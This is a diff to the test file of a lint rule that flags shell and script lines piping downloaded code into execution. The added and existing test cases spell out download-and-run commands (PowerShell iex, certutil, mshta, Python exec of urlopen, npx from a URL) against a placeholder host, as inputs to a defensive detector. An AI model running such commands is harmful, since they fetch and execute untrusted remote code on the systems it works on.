@@ -24,6 +24,8 @@ await ruleTester(rule, {
     sh('curl -fsSL https://acme.example/key.asc | gpg --dearmor -o keyring.gpg'),
     sh('VERSION="$(curl -s https://acme.example/latest)"\necho "$VERSION"'),
     sh('echo "curl https://acme.example/i.sh | sh"'),
+    sh('curl -s https://acme.example/i.sh | bash -n'),
+    sh('python3 -c "import urllib.request as u; print(u.urlopen(\'https://acme.example/i\').read())"'),
     sh('# curl https://acme.example/i.sh | sh'),
     // Checked before it runs.
     sh('curl -fsSLo i.sh https://acme.example/i.sh\necho "0f3a i.sh" | sha256sum -c -\nsh i.sh'),
@@ -95,6 +97,7 @@ await ruleTester(rule, {
     bad(script('powershell -c "iwr https://acme.example/i.ps1 | iex"'), 'pipe'),
     bad(script('powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://acme.example/i.ps1\')"'), 'pipe'),
     bad(script('certutil -urlcache -split -f https://acme.example/a.exe a.exe'), 'pipe'),
+    bad(script('python3 -c "import urllib.request as u; exec(u.urlopen(\'https://acme.example/i\').read())"'), 'pipe'),
     bad(script('mshta https://acme.example/a.hta'), 'pipe'),
     bad(script('npx https://acme.example/tool.tgz'), 'pipe'),
     bad(script('npx -y github:someone/tool'), 'pipe'),
